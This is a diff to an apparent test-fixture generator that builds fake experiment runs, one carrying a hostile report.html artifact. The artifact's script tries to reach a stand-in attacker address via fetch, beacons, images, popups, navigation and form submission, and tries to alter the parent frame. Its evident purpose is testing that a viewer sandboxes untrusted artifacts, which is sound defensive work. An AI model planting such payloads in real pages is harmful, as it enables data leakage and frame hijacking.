@@ -41,18 +41,19 @@ HOSTILE = (
 """What a hostile run holds in every field."""
 
 ATTACK = """<!doctype html><p id="note">artifact</p>
-<link rel="stylesheet" href="http://evil.invalid/style.css">
-<img src="http://evil.invalid/image.png">
-<meta http-equiv="refresh" content="1;url=http://evil.invalid/refresh">
-<form id="form" action="http://evil.invalid/form"></form>
+<link rel="stylesheet" href="EVIL/style.css">
+<img src="EVIL/image.png">
+<meta http-equiv="refresh" content="1;url=EVIL/refresh">
+<form id="form" action="EVIL/form"></form>
 <script>
+  window.parent.postMessage('ran', '*');
   const tries = [
-    () => fetch('http://evil.invalid/fetch'),
-    () => navigator.sendBeacon('http://evil.invalid/beacon'),
-    () => { new Image().src = 'http://evil.invalid/new-image'; },
-    () => { window.open('http://evil.invalid/popup'); },
-    () => { window.top.location = 'http://evil.invalid/top'; },
-    () => { window.location = 'http://evil.invalid/self'; },
+    () => fetch('EVIL/fetch'),
+    () => navigator.sendBeacon('EVIL/beacon'),
+    () => { new Image().src = 'EVIL/new-image'; },
+    () => { window.open('EVIL/popup'); },
+    () => { window.top.location = 'EVIL/top'; },
+    () => { window.location = 'EVIL/self'; },
     () => { document.getElementById('form').submit(); },
     () => { window.parent.document.body.textContent = 'taken'; },
     () => { window.parent.pwned = 1; },
@@ -60,7 +61,6 @@ ATTACK = """<!doctype html><p id="note">artifact</p>
     () => { alert('pwned'); },
   ];
   for (const attempt of tries) { try { attempt(); } catch (error) { /* as it should be */ } }
-  document.getElementById('note').textContent = 'ran';
 </script>
 """
 
@@ -97,8 +97,11 @@ def write_run(
         path.write_bytes(content)
 
 
-def sweep(root: Path, runs: int = 40) -> None:
-    """Write an experiment of many params and odd versions; the first run's history is long."""
+def sweep(root: Path, evil: str, runs: int = 40) -> None:
+    """Write an experiment of many params and odd versions; the first run's history is long.
+
+    An HTML artifact tries in every way to reach the address ``evil``.
+    """
     source = random.Random(7)
     for number in range(runs):
         name = f"{source.choice(['brave', 'calm', 'vivid'])}-otter-{number}"
@@ -124,7 +127,7 @@ def sweep(root: Path, runs: int = 40) -> None:
             "metrics": {"loss": {"goal": "min"}, "accuracy": {"goal": "max"}},
         }
         folder = root / "sweep" / f"20260101T000000-{name}-{number:04x}"
-        write_run(folder, record, list(sweep_points(number, started)), artifacts_of(number))
+        write_run(folder, record, list(sweep_points(number, started)), artifacts_of(number, evil))
     (root / "sweep" / "README.md").write_text("A sweep over *learning rates*.\n")
 
 
@@ -144,7 +147,7 @@ def sweep_points(number: int, started: float) -> Iterable[Mapping[str, Any]]:
         yield line
 
 
-def artifacts_of(number: int) -> dict[str, bytes]:
+def artifacts_of(number: int, evil: str) -> dict[str, bytes]:
     if number != 2:
         return {}
     figure = {
@@ -159,7 +162,7 @@ def artifacts_of(number: int) -> dict[str, bytes]:
         "plots/one.png": PIXEL,
         "plots/two.png": PIXEL,
         "figure.plotly.json": json.dumps(figure).encode(),
-        "report.html": ATTACK.encode(),
+        "report.html": ATTACK.replace("EVIL", evil).encode(),
         "table.csv": b"a,b\n1,2\n",
     }
 
